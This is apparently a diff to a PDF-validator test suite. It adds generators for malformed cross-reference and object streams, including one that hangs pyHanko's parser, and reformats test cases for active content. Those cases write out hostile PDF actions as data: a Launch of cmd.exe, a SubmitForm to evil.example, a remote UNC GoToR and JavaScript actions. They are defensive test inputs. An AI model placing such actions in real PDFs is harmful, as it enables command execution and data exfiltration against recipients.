@@ -98,6 +98,31 @@ def incremental_update(base: bytes, objects: dict[int, bytes], *, root: int = 1)
     return bytes(out)
 
 
+def xref_stream_pdf(
+    objects: dict[int, bytes], in_streams: dict[int, tuple[int, int]], *, root: int = 1
+) -> bytes:
+    """A PDF with a cross-reference stream; `in_streams` maps objects kept in object streams
+    to (stream number, index)."""
+    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
+    offsets = _write_objects(out, objects)
+    xref_number = max([*objects, *in_streams]) + 1
+    xref_offset = len(out)
+    offsets[xref_number] = xref_offset
+    rows = bytearray()
+    for number in range(xref_number + 1):
+        if number in offsets:
+            rows += b"\x01" + offsets[number].to_bytes(4, "big") + b"\x00\x00"
+        elif number in in_streams:
+            stream_number, index = in_streams[number]
+            rows += b"\x02" + stream_number.to_bytes(4, "big") + index.to_bytes(2, "big")
+        else:
+            rows += b"\x00" + bytes(4) + b"\xff\xff"
+    out += b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root %d 0 R /Length %d >>\nstream\n" % (
+        xref_number, xref_number + 1, root, len(rows))  # fmt: skip
+    out += rows + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_offset
+    return bytes(out)
+
+
 def _write_objects(out: bytearray, objects: dict[int, bytes]) -> dict[int, int]:
     offsets = {}
     for number in sorted(objects):
@@ -194,6 +219,27 @@ def zero_width_xref_stream() -> bytes:
     out += b"6 0 obj\n<< /Type /XRef /Size 100000000 /W [0 0 0] /Root 1 0 R /Length 0 >>\n"
     out += b"stream\n\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref
     return bytes(out)
+
+
+def zero_width_xref_stream_small() -> bytes:
+    """Zero-width entries for a plausible number of objects."""
+    return zero_width_xref_stream().replace(b"/Size 100000000", b"/Size 90000")
+
+
+def comment_at_end_of_object_stream() -> bytes:
+    """An object stream ending inside a comment: pyHanko's parser waits for the end of the
+    line for ever (a loop that reads no file: only the sandbox ends it)."""
+    objstm = stream(b"7 0 %", b"/Type /ObjStm /N 1 /First 4")
+    return xref_stream_pdf(one_page(extra={6: objstm}), {7: (6, 0)})
+
+
+def object_stream_pages() -> bytes:
+    """The page tree in an uncompressed object stream, through a hand-made xref stream."""
+    body = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
+    objstm = stream(b"2 0 " + body, b"/Type /ObjStm /N 1 /First 4")
+    objects = one_page(extra={6: objstm})
+    del objects[2]
+    return xref_stream_pdf(objects, {2: (6, 0)})
 
 
 # --- refused: encryption, signatures --------------------------------------------------------
@@ -585,7 +631,11 @@ CASES: list[Case] = [
     Case("startxref-into-nowhere", startxref_into_nowhere, "damaged"),
     Case("wrong-xref-offsets", wrong_xref_offsets, "damaged"),
     Case("xref-prev-loop", xref_loop, "damaged"),
-    Case("zero-width-xref-stream", zero_width_xref_stream, "too_complex", slow=True),
+    Case("zero-width-xref-stream", zero_width_xref_stream, "too_many_objects"),
+    Case("zero-width-xref-stream-small", zero_width_xref_stream_small, "damaged"),
+    Case(
+        "comment-at-end-of-object-stream", comment_at_end_of_object_stream, "too_complex", slow=True
+    ),
     # encryption and signatures
     Case("encrypted-aes256-empty-password", encrypted("", "AES-256"), "encrypted"),
     Case("encrypted-rc4-password", encrypted("secret", "RC4-128"), "encrypted"),
@@ -617,17 +667,32 @@ CASES: list[Case] = [
     Case("form-field-named-like-ours", reserved_field_name, "form_invalid"),
     Case("attachment-tree-cycle", cyclic_attachment_tree, "damaged"),
     # active content
-    Case("javascript-open-action", action(b"<< /S /JavaScript /JS (app.alert(1)) >>"),
-         "active_content"),  # fmt: skip
-    Case("launch-cmd", action(b"<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>"),
-         "active_content"),  # fmt: skip
-    Case("submit-form", link(b"<< /S /SubmitForm /F (https://evil.example/collect) >>"),
-         "active_content"),  # fmt: skip
+    Case(
+        "javascript-open-action",
+        action(b"<< /S /JavaScript /JS (app.alert(1)) >>"),
+        "active_content",
+    ),
+    Case(
+        "launch-cmd",
+        action(b"<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>"),
+        "active_content",
+    ),
+    Case(
+        "submit-form",
+        link(b"<< /S /SubmitForm /F (https://evil.example/collect) >>"),
+        "active_content",
+    ),
     Case("import-data", link(b"<< /S /ImportData /F (data.fdf) >>"), "active_content"),
-    Case("goto-remote-unc", link(b"<< /S /GoToR /F (\\\\\\\\evil\\\\share\\\\x.pdf) /D [0 /Fit] >>"),
-         "active_content"),  # fmt: skip
-    Case("goto-embedded-outside-file", link(b"<< /S /GoToE /F (other.pdf) /D [0 /Fit] >>"),
-         "active_content"),  # fmt: skip
+    Case(
+        "goto-remote-unc",
+        link(b"<< /S /GoToR /F (\\\\\\\\evil\\\\share\\\\x.pdf) /D [0 /Fit] >>"),
+        "active_content",
+    ),
+    Case(
+        "goto-embedded-outside-file",
+        link(b"<< /S /GoToE /F (other.pdf) /D [0 /Fit] >>"),
+        "active_content",
+    ),
     Case("javascript-name-tree", javascript_name_tree, "active_content"),
     Case("javascript-escaped-name", javascript_escaped_name, "active_content"),
     Case("javascript-indirect-type", javascript_indirect_type, "active_content"),
@@ -641,6 +706,7 @@ CASES: list[Case] = [
     Case("plain", plain, None),
     Case("short-padding-after-eof", short_padding_after_eof, None),
     Case("object-streams-30-pages", object_streams_many_pages, None),
+    Case("hand-made-xref-stream", object_stream_pages, None),
     Case("with-attachment", with_attachment, None),
     Case("web-link", web_link, None),
     Case("goto-embedded-inside", goto_embedded_without_file, None),
